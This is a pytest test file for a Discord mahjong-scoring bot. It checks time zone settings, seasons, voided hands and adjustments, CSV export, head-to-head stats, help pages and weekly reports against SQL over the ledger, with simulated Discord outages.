"""Running a group through the harness: time zone, seasons, corrections, export, head to head, /help, the
walk-through and the weekly report. Figures are checked against plain SQL over the ledger and the correction rows;
every refusal is checked to leave the database exactly as it was."""

from __future__ import annotations

import csv
import io
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from unittest.mock import ANY
from zoneinfo import ZoneInfo

import discord
import pytest
from PIL import Image

from bot.store import LedgerRow, SeatSpec, Store
from bot.store import group as gstore
from cogs.group import CSV_COLUMNS
from cogs.post_claims import CLAIM_LEASE
from cogs.report import Report, latest_report_day
from tests.harness import ADMIN_PERMISSIONS, CHANNEL_ID, GUILD_ID, USER_ID, Harness, snowflake
from tests.harness.db import dump, sql

A, B, C, D = USER_ID, USER_ID + 1, USER_ID + 2, USER_ID + 3
OTHER_GUILD = GUILD_ID + 7
NAMES = {A: "小明", B: "Bob", C: "張三", D: "Dee"}
SH = ZoneInfo("Asia/Shanghai")


def rows_for(rng: random.Random) -> list[LedgerRow]:
    win = rng.randrange(4)
    fed = (win + rng.randrange(1, 4)) % 4
    value = rng.choice((2, 4, 6, 10, 16))
    amounts = [value if s == win else -value if s == fed else 0 for s in range(4)]
    return [LedgerRow(s, amounts[s], won=s == win, deal_in=s == fed, hand_value=value if s == win else 0)
            for s in range(4)]


async def write_hands(store: Store, guild: int, times: list[datetime], seed: int, variant: str = "hefei",
                      seats: list[SeatSpec] | None = None) -> list[int]:
    rng = random.Random(seed)
    seats = seats or [SeatSpec.human(p, NAMES[p]) for p in (A, B, C)] + [SeatSpec.bot("normal")]
    mid = await store.start_match(guild, CHANNEL_ID, variant, {}, seed, seats, at=times[0])
    ids = []
    for n, at in enumerate(times):
        hid = await store.start_hand(mid, n, f"h{n}", None, at=at)
        await store.finish_hand(hid, rows_for(rng), at=at)
        ids.append(hid)
    await store.finish_match(mid, at=times[-1])
    return ids


@pytest.fixture
async def h(tmp_path: Path):
    db = tmp_path / "bot.db"
    store = await Store.open(db)
    now = datetime.now(UTC)
    old = [now - timedelta(days=60, hours=k) for k in range(4)]
    recent = [now - timedelta(days=2, hours=k) for k in range(5)]
    await write_hands(store, GUILD_ID, old + recent, 1)
    await write_hands(store, OTHER_GUILD, recent, 2)
    await store.close()
    harness = await Harness.boot(db)
    for p, n in NAMES.items():
        harness.fake.add_user(p, n)
    try:
        yield harness
    finally:
        await harness.close()




def expected_net(h: Harness, variant: str, since_ms: int = -(2**62), until_ms: int = 2**62) -> dict[int, tuple]:
    """player -> (net, hands, wins) from the ledger plus the correction rows."""
    rows = sql(h, "SELECT player_id, SUM(a), SUM(n), SUM(w) FROM ("
                  " SELECT player_id, amount a, 1 n, won w FROM ledger WHERE guild_id = ? AND variant = ? "
                  " AND at >= ? AND at < ? UNION ALL"
                  " SELECT player_id, amount, hands, wins FROM correction_rows WHERE guild_id = ? AND variant = ? "
                  " AND at >= ? AND at < ?) WHERE player_id IS NOT NULL GROUP BY player_id",
               (GUILD_ID, variant, since_ms, until_ms, GUILD_ID, variant, since_ms, until_ms))
    return {p: (n, k, w) for p, n, k, w in rows if k or n}


def board_of(text: str) -> dict[str, tuple[int, int, int]]:
    import re

    out = {}
    for line in text.splitlines():
        m = re.match(r"^(?:__)?\d+\. \*\*(.+?)\*\* · ([+-]?\d+) 子 · played (\d+) · won (\d+)", line)
        if m:
            out[m.group(1)] = (int(m.group(2)), int(m.group(3)), int(m.group(4)))
    return out


def named(expected: dict[int, tuple]) -> dict[str, tuple]:
    return {NAMES[p]: v for p, v in expected.items()}


async def admin(h: Harness, path: str, **kw):
    return await h.slash(path, permissions=ADMIN_PERMISSIONS, **kw)


# ---------------------------------------------------------------------------------------------- time zone


async def test_time_zone_is_set_audited_and_used_for_periods(h: Harness):
    r = await admin(h, "settings", timezone="America/New_York")
    assert r.reply.ephemeral and "America/New_York" in r.reply.content
    gs = await gstore.group_settings(h.bot.store, GUILD_ID)
    assert gs.timezone == "America/New_York"
    audit = sql(h, "SELECT user_id, field, old_value, new_value FROM settings_audit WHERE field = 'timezone'")
    assert audit == [(USER_ID, "timezone", '"Asia/Shanghai"', '"America/New_York"')]
    r = await h.slash("leaderboard", variant="hefei", period="week")
    monday = (datetime.now(ZoneInfo("America/New_York")).date() - timedelta(
        days=datetime.now(ZoneInfo("America/New_York")).weekday()))
    # (the heading's scope is escaped as markdown: Discord shows "New\\_York" as New_York)
    assert f"from {monday:%b} {monday.day}, America/New\\_York" in r.reply.content


@pytest.mark.parametrize(("locale", "word"), [("en-US", "not a time zone"), ("zh-CN", "不是认识的时区"),
                                              ("zh-TW", "不是認識的時區")])
async def test_an_invalid_time_zone_changes_nothing(h: Harness, locale, word):
    before = dump(h)
    r = await admin(h, "settings", timezone="Mars/Olympus", locale=locale)
    assert r.reply.ephemeral and word in r.reply.content and r.reply.embeds == []
    assert dump(h) == before


async def test_settings_options_need_manage_server_in_code_too(h: Harness):
    before = dump(h)
    r = await h.slash("settings", timezone="Europe/London")
    assert "Manage Server" in r.reply.content
    assert dump(h) == before
    await h.bot.tree.sync()
    synced = {c["name"]: c for c in h.fake.commands[None]}
    for name in ("settings", "season", "correct", "export"):
        assert str(synced[name]["default_member_permissions"]) == str(discord.Permissions(manage_guild=True).value)


# ---------------------------------------------------------------------------------------------- seasons


async def test_a_season_is_the_default_scope_and_all_time_stays_selectable(h: Harness):
    start = datetime.now(UTC) - timedelta(days=10)
    s, ended = await gstore.start_season(h.bot.store, GUILD_ID, A, "Autumn", ends_at=None, channel_id=CHANNEL_ID,
                                         at=start)
    assert ended is None and s.number == 1
    since = int(start.timestamp() * 1000)
    r = await h.slash("leaderboard", variant="hefei")
    assert "Season 1 · Autumn" in r.reply.content
    assert board_of(r.reply.content) == named(expected_net(h, "hefei", since))
    r = await h.slash("leaderboard", variant="hefei", season="all")
    assert board_of(r.reply.content) == named(expected_net(h, "hefei"))
    assert sum(v[1] for v in board_of(r.reply.content).values()) > sum(
        v[1] for v in named(expected_net(h, "hefei", since)).values())
    r = await h.slash("stats", player=B, season="1")
    assert "Hands 5 " in r.reply.content or "Hands 5" in r.reply.content


@pytest.mark.parametrize(("locale", "word"), [("en-US", "no season"), ("zh-CN", "没有"), ("zh-TW", "沒有")])
async def test_an_unknown_season_is_refused(h: Harness, locale, word):
    before = dump(h)
    for cmd in ("leaderboard", "stats"):
        r = await h.slash(cmd, season="42", locale=locale)
        assert r.reply.ephemeral and word in r.reply.content
    r = await admin(h, "export", season="nope", locale=locale)
    assert r.reply.ephemeral and word in r.reply.content and r.reply.attachments == []
    assert dump(h) == before


async def test_starting_a_season_posts_the_previous_final_board_and_is_audited(h: Harness):
    r = await admin(h, "season start", title="Spring")
    assert not r.reply.ephemeral and "Season 1 · Spring" in r.reply.content
    first = await gstore.season(h.bot.store, GUILD_ID, 1)
    # hands played during season 1
    now = datetime.now(UTC)
    assert now >= first.started_at
    await write_hands(h.bot.store, GUILD_ID, [now, now], 9)
    r2 = await admin(h, "season start", title="Summer", ends="2999-12-31")
    assert "Season 2 · Summer" in r2.reply.content and "Dec 31" in r2.reply.content
    assert r2.messages[1:] == []  # not a follow-up: a message in the channel, with the season's nonce
    [final] = [m for m in h.channel() if "Final board" in m.content]
    assert "Final board of Season 1 · Spring" in final.content and final.nonce == f"mjs{first.season_id}"
    since = int(first.started_at.timestamp() * 1000)
    ended = await gstore.season(h.bot.store, GUILD_ID, 1)
    until = int(ended.ended_at.timestamp() * 1000)
    assert board_of(final.content) == named(expected_net(h, "hefei", since, until))
    assert len(final.images) == 1
    audit = sql(h, "SELECT user_id, new_value FROM settings_audit WHERE field = 'season' ORDER BY id")
    assert audit == [(USER_ID, '"1. Spring"'), (USER_ID, '"2. Summer"')]
    # posted once: the scheduler finds nothing left to announce
    cog: Report = h.bot.get_cog("Report")
    await cog.tick()
    await h.settle()
    assert [m for m in h.channel() if "Final board" in m.content] == [final]


async def test_a_final_board_discord_fails_to_take_is_posted_by_the_scheduler(h: Harness):
    """``/season start`` answers, but Discord fails (a 503, which discord.py does not retry on a channel) on the
    previous season's final board: Discord may have made it all the same, so the claim is kept, and the scheduler
    looks for the board in the channel before it posts it there, once."""
    await admin(h, "season start", title="Spring")
    now = datetime.now(UTC)
    await write_hands(h.bot.store, GUILD_ID, [now, now], 9)
    fault = h.fake.fail(rf"^/channels/{CHANNEL_ID}/messages$", method="POST", status=503, times=1)
    r = await admin(h, "season start", title="Summer")
    await h.settle()
    assert fault.hits == 1 and "Season 2 · Summer" in r.reply.content
    assert r.messages[1:] == []  # nothing said to the admin about it: the season started, as they were told
    assert not [m for m in h.channel() if "Final board" in m.content or "最终排名" in m.content]
    assert sql(h, "SELECT number, final_posted_at, final_claimed_at, final_channel FROM seasons ORDER BY number") == [
        (1, None, ANY, CHANNEL_ID), (2, None, None, None)]
    cog: Report = h.bot.get_cog("Report")
    cog.clock = lambda: datetime.now(UTC) + CLAIM_LEASE + timedelta(seconds=1)
    await cog.tick()
    await h.settle()
    await cog.tick()
    await h.settle()
    [final] = [m for m in h.channel() if "最终排名" in m.content]  # the server's language: zh (the default)
    assert final.content.startswith("🏁 第 1 赛季 · Spring") and len(final.images) == 1
    assert sql(h, "SELECT number, final_posted_at IS NOT NULL, final_claimed_at FROM seasons ORDER BY number") == [
        (1, 1, None), (2, 0, None)]
    assert len(h.fake.requests_to(rf"^/channels/{CHANNEL_ID}/messages$", "GET")) == 1  # looked for before the post


async def test_a_season_end_date_passing_posts_the_final_board_once(h: Harness):
    r = await admin(h, "season start", title="Short", ends="2999-01-01")
    assert r.reply.content
    before = dump(h)
    bad = await admin(h, "season start", title="Past", ends="2001-01-01")
    assert bad.reply.ephemeral and "future" in bad.reply.content
    bad = await admin(h, "season start", title="Typo", ends="31/12/2999")
    assert bad.reply.ephemeral and "YYYY-MM-DD" in bad.reply.content
    assert dump(h) == before
    cog: Report = h.bot.get_cog("Report")
    assert cog.loop.is_running()
    cog.clock = lambda: datetime(2999, 1, 1, 16, 1, tzinfo=UTC)  # 00:01 the day after its last day, in China
    await cog.tick()
    await cog.tick()
    await h.settle()
    # posted in the server's language (Chinese by default), in the channel where the season was started
    finals = [m for m in h.channel() if "第 1 赛季 · Short" in m.content and "最终排名" in m.content]
    assert len(finals) == 1
    assert (await gstore.current_season(h.bot.store, GUILD_ID, datetime(2999, 1, 2, tzinfo=UTC))) is None


# ---------------------------------------------------------------------------------------------- corrections


async def test_voiding_a_hand_cancels_it_everywhere(h: Harness):
    # the biggest win of the server: its winner's biggest hand must be looked up again without it
    hand = sql(h, "SELECT l.hand_id FROM ledger l WHERE l.guild_id = ? AND l.won = 1 ORDER BY l.hand_value DESC, "
                  "l.at DESC LIMIT 1", (GUILD_ID,))[0][0]
    ledger_before = sql(h, "SELECT * FROM ledger ORDER BY hand_id, seat")
    r = await admin(h, "correct void", hand=hand, reason="misclick by the host")
    assert not r.reply.ephemeral and f"#{hand}" in r.reply.content and "misclick" in r.reply.content
    assert sql(h, "SELECT * FROM ledger ORDER BY hand_id, seat") == ledger_before  # never an edit of old rows
    rows = sql(h, "SELECT r.seat, r.player_id, r.amount, r.hands, r.wins, r.at FROM correction_rows r "
                  "JOIN corrections c ON c.id = r.correction_id WHERE c.hand_id = ? ORDER BY r.seat", (hand,))
    orig = sql(h, "SELECT seat, player_id, amount, 1, won, at FROM ledger WHERE hand_id = ? ORDER BY seat", (hand,))
    assert [(s, p, -a, -n, -w, at) for s, p, a, n, w, at in orig] == rows
    assert sum(r[2] for r in rows) == 0
    board = await h.slash("leaderboard", variant="hefei")
    assert board_of(board.reply.content) == named(expected_net(h, "hefei"))
    winner = next(p for s, p, a, n, w, at in orig if w)
    raw_hands, raw_wins = sql(h, "SELECT COUNT(*), SUM(won) FROM ledger WHERE guild_id = ? AND player_id = ?",
                              (GUILD_ID, winner))[0]  # the ledger still holds the hand: one more than the record
    record = await gstore.player_record(h.bot.store, GUILD_ID, winner)
    assert record.hands == raw_hands - 1 and record.wins == raw_wins - 1
    biggest = sql(h, "SELECT COALESCE(MAX(hand_value), 0) FROM ledger WHERE guild_id = ? AND player_id = ? "
                     "AND won = 1 AND hand_id <> ?", (GUILD_ID, winner, hand))[0][0]
    [row] = [r for r in await gstore.board(h.bot.store, GUILD_ID, "hefei", limit=100) if r.player_id == winner]
    assert record.biggest_hand == row.biggest_hand == biggest
    audit = sql(h, "SELECT user_id, field FROM settings_audit WHERE field = 'void'")
    assert audit == [(USER_ID, "void")]
    again = await admin(h, "correct void", hand=hand, reason="twice")
    assert again.reply.ephemeral and "already void" in again.reply.content


@pytest.mark.parametrize("locale", ["en-US", "zh-CN", "zh-TW"])
async def test_a_hand_of_another_server_is_unknown_here(h: Harness, locale):
    theirs = sql(h, "SELECT hand_id FROM ledger WHERE guild_id = ? LIMIT 1", (OTHER_GUILD,))[0][0]
    before = dump(h)
    r = await admin(h, "correct void", hand=theirs, reason="not ours", locale=locale)
    assert r.reply.ephemeral and str(theirs) in r.reply.content
    assert {"en-US": "no hand", "zh-CN": "没有", "zh-TW": "沒有"}[locale] in r.reply.content
    assert dump(h) == before


async def test_an_adjustment_moves_net_and_is_zero_sum(h: Harness):
    before = await gstore.head_to_head(h.bot.store, GUILD_ID, B, C)
    r = await admin(h, "correct adjust", payer=B, payee=C, amount=25, reason="side bet", variant="hefei")
    assert not r.reply.ephemeral and "25 子" in r.reply.content
    rows = sql(h, "SELECT seat, player_id, amount, hands FROM correction_rows ORDER BY seat")
    assert rows == [(0, B, -25, 0), (1, C, 25, 0)]
    c = sql(h, "SELECT kind, hand_id, variant, reason, user_id FROM corrections")
    assert c == [("adjust", None, "hefei", "side bet", USER_ID)]
    board = await h.slash("leaderboard", variant="hefei")
    assert board_of(board.reply.content) == named(expected_net(h, "hefei"))
    after = await gstore.head_to_head(h.bot.store, GUILD_ID, B, C)  # the adjustment passed between them
    assert (after.hands, after.a_to_b, after.b_to_a) == (before.hands, before.a_to_b + 25, before.b_to_a)


@pytest.mark.parametrize(("kwargs", "word"), [
    ({"payer": B, "payee": C, "amount": 0}, "1 to 1,000,000"),
    ({"payer": B, "payee": C, "amount": -5}, "1 to 1,000,000"),
    ({"payer": B, "payee": B, "amount": 5}, "two different members"),
    ({"payer": B, "payee": C, "amount": 5, "reason": "   "}, "Give a reason"),
])
async def test_bad_adjustments_change_nothing(h: Harness, kwargs, word):
    before = dump(h)
    r = await admin(h, "correct adjust", **{"reason": "x", **kwargs})
    assert r.reply.ephemeral and word in r.reply.content
    assert dump(h) == before


async def test_a_bot_member_cannot_be_adjusted_and_members_need_manage_server(h: Harness):
    before = dump(h)
    data, rec = h.slash_payload("correct adjust", payer=B, payee=C + 500, amount=5, reason="x",
                                permissions=ADMIN_PERMISSIONS)
    data["data"]["options"][0]["options"]  # the subcommand's options
    data["data"]["resolved"]["users"][str(C + 500)] = {**data["data"]["resolved"]["users"][str(C + 500)],
                                                       "bot": True}
    r = await h.send(data, rec)
    assert r.reply.ephemeral and "is a bot" in r.reply.content
    r = await h.slash("correct adjust", payer=B, payee=C, amount=5, reason="x")
    assert "Manage Server" in r.reply.content
    r = await h.slash("correct void", hand=1, reason="x")
    assert "Manage Server" in r.reply.content
    assert dump(h) == before


# ---------------------------------------------------------------------------------------------- export


async def test_export_is_an_ephemeral_csv_with_every_field(h: Harness):
    hand = sql(h, "SELECT hand_id FROM ledger WHERE guild_id = ? ORDER BY at LIMIT 1", (GUILD_ID,))[0][0]
    await admin(h, "correct void", hand=hand, reason="test void")
    await admin(h, "correct adjust", payer=A, payee=D, amount=7, reason="贴补", variant="hefei")
    r = await admin(h, "export")
    reply = r.reply
    assert reply.ephemeral
    [att] = reply.attachments
    raw = reply.files[att.filename]
    assert raw.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert tuple(lines[0]) == CSV_COLUMNS
    body = [dict(zip(CSV_COLUMNS, line, strict=True)) for line in lines[1:]]
    ledger = sql(h, "SELECT l.hand_id, l.match_id, l.variant, l.at, l.player_id, p.display_name, l.ai, l.seat, "
                    "l.amount, l.stack_amount, l.jiao_amount, l.won, l.self_draw, l.deal_in, l.drawn, l.hand_value, l.source "
                    "FROM ledger l LEFT JOIN players p ON p.user_id = l.player_id WHERE l.guild_id = ?",
                 (GUILD_ID,))
    corr = sql(h, "SELECT c.kind, c.id, c.hand_id, c.variant, r.at, r.player_id, p.display_name, r.ai, r.seat, "
                  "r.amount, c.reason, c.user_id, r.hands, r.wins, r.self_draws, r.deal_ins, r.draws "
                  "FROM correction_rows r JOIN corrections c ON c.id = r.correction_id "
                  "LEFT JOIN players p ON p.user_id = r.player_id")
    assert len(body) == len(ledger) + len(corr)

    def iso(ms: int, tz) -> str:
        return datetime.fromtimestamp(ms / 1000, UTC).astimezone(tz).isoformat(timespec="seconds")

    want = []
    for hid, mid, var, at, pid, name, ai, seat, amt, st, ji, won, sd, di, dr, hv, src in ledger:
        want.append({"kind": "hand", "entry_id": str(hid), "hand_id": str(hid), "match_id": str(mid), "variant": var,
                     "time_local": iso(at, SH), "time_utc": iso(at, UTC), "season": "",
                     "player_id": "" if pid is None else f"<@{pid}>", "player_name": name or "", "ai": ai or "",
                     "seat": str(seat), "amount": str(amt), "stack_amount": str(st), "jiao_amount": str(ji),
                     "hands": "1", "won": str(won), "self_draw": str(sd), "deal_in": str(di), "drawn": str(dr),
                     "hand_value": str(hv), "reason": "", "posted_by": "", "source": src})
    for kind, cid, hid, var, at, pid, name, ai, seat, amt, reason, by, n, won, sd, di, dr in corr:
        mid = sql(h, "SELECT match_id FROM hands WHERE id = ?", (hid,))[0][0] if hid else ""
        src = sql(h, "SELECT source FROM ledger WHERE hand_id = ? AND seat = 0", (hid,))[0][0] if hid else ""
        hv = -sql(h, "SELECT hand_value FROM ledger WHERE hand_id = ? AND seat = ?", (hid, seat))[0][0] if hid else 0
        want.append({"kind": kind, "entry_id": str(cid), "hand_id": "" if hid is None else str(hid),
                     "match_id": str(mid), "variant": var, "time_local": iso(at, SH), "time_utc": iso(at, UTC),
                     "season": "", "player_id": "" if pid is None else f"<@{pid}>", "player_name": name or "",
                     "ai": ai or "", "seat": str(seat), "amount": str(amt), "stack_amount": "0", "jiao_amount": "0",
                     "hands": str(n), "won": str(won), "self_draw": str(sd), "deal_in": str(di), "drawn": str(dr),
                     "hand_value": str(hv), "reason": reason,
                     "posted_by": f"<@{by}>", "source": src})
    key = lambda d: (d["kind"], d["entry_id"], d["seat"])  # noqa: E731
    assert sorted(body, key=key) == sorted(want, key=key)
    assert any(d["player_name"] == "張三" for d in body) and any(d["reason"] == "贴补" for d in body)
    # every count and the amount, summed per player as a pivot table would, are the board's figures: the voided
    # hand counts for nothing in any column
    sums: dict[str, list[int]] = {}
    for d in body:
        if d["player_id"]:
            row = sums.setdefault(d["player_id"], [0] * 6)
            for i, col in enumerate(("hands", "won", "self_draw", "deal_in", "drawn", "amount")):
                row[i] += int(d[col])
    board = await gstore.board(h.bot.store, GUILD_ID, "hefei", limit=100)
    assert sums == {f"<@{r.player_id}>": [r.hands, r.wins, r.self_draws, r.deal_ins, r.draws, r.net] for r in board}
    assert sql(h, "SELECT field, new_value FROM settings_audit WHERE field = 'export'") == [
        ("export", f'"all: {len(body)}"')]
    assert h.channel() == [m for m in h.channel() if not m.attachments]  # nothing public carries the file


# ---------------------------------------------------------------------------------------------- head to head


async def test_head_to_head_against_the_ledger(h: Harness):
    r = await h.slash("stats", player=A, other_player=B, season="all")
    text = r.reply.content
    both = sql(h, "SELECT x.hand_id FROM ledger x JOIN ledger y ON y.hand_id = x.hand_id WHERE x.player_id = ? "
                  "AND y.player_id = ? AND x.guild_id = ?", (A, B, GUILD_ID))
    assert f"Hands together {len(both)}" in text
    a_to_b = b_to_a = 0
    for (hid,) in both:
        amounts = dict(sql(h, "SELECT seat, amount FROM ledger WHERE hand_id = ?", (hid,)))
        seat = dict(sql(h, "SELECT player_id, seat FROM ledger WHERE hand_id = ? AND player_id IS NOT NULL", (hid,)))
        gains = sum(v for v in amounts.values() if v > 0)
        la, lb = amounts[seat[A]], amounts[seat[B]]
        if la < 0 < lb:  # one winner in these hands: the loser paid the winner exactly
            a_to_b += -la * lb // gains
        if lb < 0 < la:
            b_to_a += -lb * la // gains
    assert f"小明 → Bob {a_to_b} 子" in text and f"Bob → 小明 {b_to_a} 子" in text
    r = await h.slash("stats", player=A, other_player=A)
    assert r.reply.ephemeral and "two different players" in r.reply.content


# ---------------------------------------------------------------------------------------------- /help, welcome


@pytest.mark.parametrize(("locale", "word"), [("en-US", "Hand notation"), ("zh-CN", "手牌写法"),
                                              ("zh-TW", "手牌寫法")])
async def test_help_pages_in_the_players_language(h: Harness, locale, word):
    r = await h.slash("help", locale=locale)
    msg = r.reply
    assert msg.ephemeral and msg.embeds
    r2 = await h.click(msg, custom_id="mjbot:help:page", values=["notation"], locale=locale)
    page = h.fake.find_message(msg.id)
    assert word in page.embeds[0]["title"] and "1234678922m345s+5m" in page.embeds[0]["description"]  # the Hefei example
    assert r2.callback_type == 7
    dm = await h.slash("help", guild=False, locale=locale)  # in a DM too
    assert dm.reply.embeds and dm.reply.embeds[0]["footer"]["text"].endswith(("5", "5 页", "5 頁"))


def guild_payload(guild_id: int, system_channel: int, *, can_send: bool) -> dict:
    everyone = discord.Permissions(view_channel=True, send_messages=can_send, embed_links=True)
    bot_id = 1_200_000_000_000_000_001
    return {
        "id": str(guild_id), "name": "mahjong night", "icon": None, "owner_id": str(USER_ID), "afk_timeout": 300,
        "verification_level": 0, "default_message_notifications": 0, "explicit_content_filter": 0, "features": [],
        "mfa_level": 0, "system_channel_id": str(system_channel), "system_channel_flags": 0, "preferred_locale": "zh-TW",
        "roles": [{"id": str(guild_id), "name": "@everyone", "permissions": str(everyone.value), "position": 0,
                   "color": 0, "hoist": False, "managed": False, "mentionable": False, "flags": 0}],
        "emojis": [], "stickers": [], "premium_tier": 0, "nsfw_level": 0, "member_count": 2,
        "channels": [{"id": str(system_channel), "type": 0, "name": "general", "position": 0,
                      "permission_overwrites": [], "guild_id": str(guild_id)}],
        "members": [{"user": {"id": str(bot_id), "username": "mjbot", "discriminator": "0", "avatar": None,
                              "bot": True}, "roles": [], "joined_at": "2026-01-01T00:00:00+00:00", "deaf": False,
                     "mute": False, "flags": 0}],
        "threads": [], "voice_states": [], "presences": [], "stage_instances": [], "guild_scheduled_events": [],
        "large": False,
    }


async def test_the_walkthrough_is_posted_once_where_allowed(h: Harness):
    gid, ch = snowflake(), snowflake()
    h.fake.add_channel(ch, gid, name="general")
    h.bot._connection.parse_guild_create(guild_payload(gid, ch, can_send=True))
    await h.settle()
    posted = h.channel(ch)
    # in the server's /settings language (简体中文 until an admin chooses), not its Discord locale (zh-TW here)
    assert len(posted) == 1 and posted[0].embeds[0]["title"] == "感谢邀请 mjbot！🀄"
    assert "/牌桌 开桌" in posted[0].embeds[0]["description"]  # as a Chinese client lists the command
    # joining again (kicked and re-invited) never posts twice
    h.bot._connection.parse_guild_delete({"id": str(gid), "unavailable": False})
    h.bot._connection.parse_guild_create(guild_payload(gid, ch, can_send=True))
    await h.settle()
    assert len(h.channel(ch)) == 1
    # a server whose system channel the bot may not write to: nothing posted, nothing remembered
    gid2, ch2 = snowflake(), snowflake()
    h.fake.add_channel(ch2, gid2, name="general")
    h.bot._connection.parse_guild_create(guild_payload(gid2, ch2, can_send=False))
    await h.settle()
    assert h.channel(ch2) == [] and (await gstore.group_settings(h.bot.store, gid2)).welcomed_at is None


@pytest.mark.parametrize("discord_locale", ["en-US", "zh-TW"])
@pytest.mark.parametrize("chosen", [None, "zh", "zh-TW", "en"])
async def test_the_walkthrough_speaks_the_language_of_the_tables_it_leads_to(h: Harness, chosen, discord_locale):
    """The walk-through read the server's Discord locale, which most servers report as en-US whatever their members
    speak, while the tables speak the /settings language (简体中文 until an admin chooses): an English walk-through
    led to a Chinese lobby, and never said where the tables' language is set (found by an independent review). It
    speaks the tables' language, and its footer says in every language which one that is and how to change it."""
    from bot.i18n import t

    gid, ch = snowflake(), snowflake()
    h.fake.add_channel(ch, gid, name="general")
    if chosen is not None:  # an admin chose it in /settings before the bot was (re)invited
        await h.bot.store.update_guild_settings(gid, A, {"language": chosen})
    lang = chosen or "zh"
    payload = guild_payload(gid, ch, can_send=True)
    payload["preferred_locale"] = discord_locale
    h.bot._connection.parse_guild_create(payload)
    await h.settle()
    [welcome] = h.channel(ch)
    embed = welcome.embeds[0]
    assert embed["title"] == t("welcome.title", lang) and embed["description"] == t("welcome.body", lang)
    assert f"/{t('table.name', lang)} {t('table.new.name', lang)}" in embed["description"]
    assert t("settings.field.language", lang).lower() in embed["description"].splitlines()[1]  # step 1 names it
    footer = embed["footer"]["text"].splitlines()
    for reader, line in zip([lang] + [x for x in ("zh", "zh-TW", "en") if x != lang], footer, strict=True):
        assert t(f"lang.{lang}", reader) in line  # the tables' language, named in each language
        assert f"/{t('settings.name', reader)} → {t('settings.field.language', reader)}" in line
    # the table step 2 tells the admin to open speaks the same language, whoever opens it
    lobby = (await h.slash("table new", guild=gid, channel=ch, locale="fr", guild_locale=discord_locale)).reply
    assert t("tables.lobby_title", lang, variant=t("variant.wuhu", lang)) in lobby.text


# ---------------------------------------------------------------------------------------------- weekly report


def test_report_day_schedule():
    tz = SH
    assert latest_report_day(datetime(2026, 12, 7, 9, 59, tzinfo=tz), 0).isoformat() == "2026-11-30"
    assert latest_report_day(datetime(2026, 12, 7, 10, 0, tzinfo=tz), 0).isoformat() == "2026-12-07"
    assert latest_report_day(datetime(2026, 12, 9, 0, 0, tzinfo=tz), 6).isoformat() == "2026-12-06"


async def test_weekly_report_is_posted_once_and_after_downtime_only_the_latest(h: Harness):
    report_ch = h.add_channel(name="reports")
    cog: Report = h.bot.get_cog("Report")
    enable_at = datetime(2030, 1, 2, 12, tzinfo=SH)  # a Wednesday
    first = latest_report_day(enable_at, 0).toordinal()
    await gstore.set_weekly_report(h.bot.store, GUILD_ID, A, report_ch, 0, first)
    # hands in the week of Jan 7-13, 2030 (China time)
    await write_hands(h.bot.store, GUILD_ID, [datetime(2030, 1, 8, 20, tzinfo=SH),
                                              datetime(2030, 1, 9, 21, tzinfo=SH)], 5)
    cog.clock = lambda: datetime(2030, 1, 5, 12, tzinfo=SH)  # no Monday since it was turned on
    await cog.tick()
    assert h.channel(report_ch) == []
    cog.clock = lambda: datetime(2030, 1, 14, 10, 5, tzinfo=SH)  # Monday 10:05: last week's report
    await cog.tick()
    await cog.tick()
    await h.settle()
    [post] = h.channel(report_ch)
    assert "1月7日 – 1月13日" in post.content and "共 2 局" in post.content  # the server's language
    img = Image.open(io.BytesIO(post.images[0]))
    assert img.width == 480 and img.height > 300  # as wide as the leaderboard: phone-first
    # what the image shows: the week's board and records, from the ledger
    from cogs.report import report_scene

    _, scene = await report_scene(h.bot, GUILD_ID, latest_report_day(cog.clock(), 0), "zh")
    lo = int(datetime(2030, 1, 7, tzinfo=SH).timestamp() * 1000)
    hi = int(datetime(2030, 1, 14, tzinfo=SH).timestamp() * 1000)
    want = sorted(expected_net(h, "hefei", lo, hi).items(), key=lambda kv: (-kv[1][0], -kv[1][2], kv[0]))
    assert [(x.rank, x.name, x.net, x.hands, x.wins) for x in scene.lines] == [
        (i, NAMES[p], net, n, w) for i, (p, (net, n, w)) in enumerate(want, start=1)]
    top = sql(h, "SELECT p.display_name, l.hand_value FROM ledger l JOIN players p ON p.user_id = l.player_id "
                 "WHERE l.guild_id = ? AND l.at >= ? AND l.at < ? AND l.won = 1 ORDER BY l.hand_value DESC, l.at "
                 "LIMIT 1", (GUILD_ID, lo, hi))[0]
    assert scene.records[0] == ("最大一手", f"{top[0]} · {top[1]} 子 · 合肥")
    # three weeks of downtime: only the latest missed week is posted
    cog.clock = lambda: datetime(2030, 2, 4, 11, tzinfo=SH)
    await cog.tick()
    await cog.tick()
    await h.settle()
    posts = h.channel(report_ch)
    assert len(posts) == 2 and "1月28日 – 2月3日" in posts[1].content
    assert (await gstore.group_settings(h.bot.store, GUILD_ID)).last_report_week == datetime(2030, 2, 4).toordinal()


def fail_next(h: Harness, path: str, status: int, code: int, times: int = 1) -> None:
    """The next ``times`` requests to ``path`` get ``status`` (a Discord outage, a missing permission)."""
    from tests.harness.fake import FakeResponse

    real = h.fake.handle
    left = [times]

    def handle(method, url, kwargs):
        if left[0] > 0 and path in url:
            left[0] -= 1
            return FakeResponse(status, {"message": "injected", "code": code})
        return real(method, url, kwargs)

    h.fake.handle = handle  # type: ignore[method-assign]


WEEK_14 = datetime(2030, 1, 14).toordinal()  # the report day the tests' clock is on


async def report_setup(h: Harness) -> tuple[int, Report]:
    report_ch = h.add_channel(name="reports")
    cog: Report = h.bot.get_cog("Report")
    await gstore.set_weekly_report(h.bot.store, GUILD_ID, A, report_ch, 0, datetime(2030, 1, 7).toordinal())
    cog.clock = lambda: datetime(2030, 1, 14, 10, 5, tzinfo=SH)
    return report_ch, cog


async def test_a_discord_outage_keeps_the_week_claimed_and_a_429_is_waited_out(h: Harness):
    """A 503 may come after Discord made the message: the week stays claimed, and the round past the claim's lease
    looks for it in the channel before it posts it."""
    report_ch, cog = await report_setup(h)
    cog.first_round = False
    fail_next(h, f"/channels/{report_ch}/messages", 503, 0)
    await cog.tick()
    await h.settle()
    assert h.channel(report_ch) == []
    gs = await gstore.group_settings(h.bot.store, GUILD_ID)
    assert (gs.last_report_week, gs.report_claim_week) == (datetime(2030, 1, 7).toordinal(), WEEK_14)
    await cog.tick()  # the claim is fresh: nothing is tried
    assert h.fake.requests_to(f"/channels/{report_ch}/messages", "GET") == []
    h.fake.rate_limit(f"/channels/{report_ch}/messages", method="POST")
    cog.clock = lambda: datetime(2030, 1, 14, 10, 10, tzinfo=SH)  # the next round, past the lease
    await cog.tick()
